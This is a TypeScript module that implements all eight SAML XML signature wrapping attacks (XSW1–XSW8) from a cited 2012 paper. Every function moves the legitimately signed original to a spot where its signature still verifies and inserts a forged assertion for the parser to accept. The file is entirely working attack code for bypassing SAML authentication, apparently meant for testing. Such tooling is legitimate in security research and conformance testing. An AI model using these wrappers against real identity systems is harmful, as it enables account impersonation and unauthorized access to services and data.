/**
 * The eight signature wrapping attacks (Somorovsky et al., "On Breaking SAML", 2012) on a response with one signed part.
 * Each keeps the signed original at a place where its signature is still valid and makes a parser find a forged assertion.
 */
export const wrappings: Record<
  string,
  { signed: 'Response' | 'Assertion'; wrap(xml: string, evil: Evil): string }
> = {
  XSW1: {
    signed: 'Response',
    wrap(xml, evil) {
      const { signature } = parts(xml);
      const original = xml.replace(signature, '');
      return evil.response.replace(
        afterIssuer,
        `$1${signature.replace('</ds:Signature>', `${object(original)}</ds:Signature>`)}`,
      );
    },
  },
  XSW2: {
    signed: 'Response',
    wrap(xml, evil) {
      const { signature } = parts(xml);
      return evil.response.replace(afterIssuer, `$1${xml.replace(signature, '')}${signature}`);
    },
  },
  XSW3: {
    signed: 'Assertion',
    wrap: (xml, evil) => xml.replace('<saml:Assertion', `${evil.assertion}<saml:Assertion`),
  },
  XSW4: {
    signed: 'Assertion',
    wrap(xml, evil) {
      const { assertion } = parts(xml);
      return xml.replace(
        assertion,
        evil.assertion.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`),
      );
    },
  },
  XSW5: {
    signed: 'Assertion',
    wrap(xml, evil) {
      const { assertion, signature } = parts(xml);
      const forged = evil.assertion.replace(afterIssuer, `$1${signature}`);
      return xml.replace(assertion, forged + assertion.replace(signature, ''));
    },
  },
  XSW6: {
    signed: 'Assertion',
    wrap(xml, evil) {
      const { assertion, signature } = parts(xml);
      const holding = signature.replace(
        '</ds:Signature>',
        `${object(assertion.replace(signature, ''))}</ds:Signature>`,
      );
      return xml.replace(assertion, evil.assertion.replace(afterIssuer, `$1${holding}`));
    },
  },
  XSW7: {
    signed: 'Assertion',
    wrap: (xml, evil) =>
      xml.replace('<samlp:Status>', `<samlp:Extensions>${evil.assertion}</samlp:Extensions><samlp:Status>`),
  },
  XSW8: {
    signed: 'Assertion',
    wrap(xml, evil) {
      const { assertion, signature } = parts(xml);
      const original = assertion.replace(signature, '');
      const forged = evil.assertion.replace(
        afterIssuer,
        `$1${signature}<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${original}</ds:Object>`,
      );
      return xml.replace(assertion, forged);
    },
  },
};

/** The forged assertion. */
export interface Evil {
  response: string;
  assertion: string;
}

const afterIssuer = /(<saml:Issuer>[^<]*<\/saml:Issuer>)/;
const object = (xml: string) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${xml}</ds:Object>`;

/** The signature and the assertion of a signed response. */
export function parts(xml: string): { signature: string; assertion: string } {
  const signature = /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(xml)?.[0] ?? '';
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
  return { signature, assertion };
}
